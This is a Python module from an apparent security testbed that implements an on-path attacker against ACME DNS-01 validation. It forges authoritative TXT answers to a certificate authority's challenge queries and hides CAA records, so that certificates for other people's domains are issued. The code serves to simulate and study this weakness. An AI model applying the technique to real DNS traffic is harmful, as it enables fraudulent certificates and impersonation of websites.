"""Answers a CA's challenge in the name of others' servers, and so comes by certificates for them."""

from __future__ import annotations

import dns.flags
import dns.message
import dns.name
import dns.rdatatype
import dns.rrset
from pydantic import BaseModel, Field

from testbed.attack.api import (
    Attacker,
    Capability,
    MessageAction,
    Parameters,
    Query,
    Replace,
    Reply,
    Response,
    Scene,
)
from testbed.core.acme import Challenge

FORGED_TTL = 300
"""Seconds."""


class ObtainCertificateParameters(Parameters):
    """What is done beside forging TXT records."""

    hide_caa: bool = Field(True, description="Whether it keeps CAA records from the CA.")


class ObtainCertificate(Attacker):
    """Has ordered certificates; forges the TXT records that the CA looks for, and hides CAA records."""

    capability = Capability.ON_PATH
    position = "the link of a CA"
    source = "RFC 8555 sections 8.4 and 10.2; RFC 8659 section 5"
    Parameters = ObtainCertificateParameters
    parameters: ObtainCertificateParameters

    def __init__(self, scene: Scene, parameters: BaseModel) -> None:
        super().__init__(scene, parameters)
        self._answers: dict[dns.name.Name, str] = {}

    def challenged(self, challenge: Challenge) -> None:
        """Learn from the CA, as the one who ordered, which answer it will look for, and where."""
        self._answers[challenge.owner] = challenge.answer

    def query(self, query: Query) -> MessageAction:
        """Answer the CA's question for a challenge in the servers' place."""
        asked = query.message
        question = asked.question[0] if asked.question else None
        if question is None or question.rdtype != dns.rdatatype.TXT or question.name not in self._answers:
            return None
        self.matched()
        response = query.respond()
        response.flags |= dns.flags.AA
        text = f'"{self._answers[question.name]}"'
        response.answer.append(dns.rrset.from_text(question.name, FORGED_TTL, "IN", "TXT", text))
        return Reply(response)

    def response(self, response: Response) -> MessageAction:
        """Hide CAA records, which name the CAs that may issue."""
        message = response.message
        found = any(rrset.rdtype == dns.rdatatype.CAA for rrset in message.answer)
        if not found or not self.parameters.hide_caa:
            return None
        self.matched()
        name = message.question[0].name
        message.answer[:] = []
        message.authority[:] = [self.scene.negative_soa(name, FORGED_TTL)]
        return Replace(message)
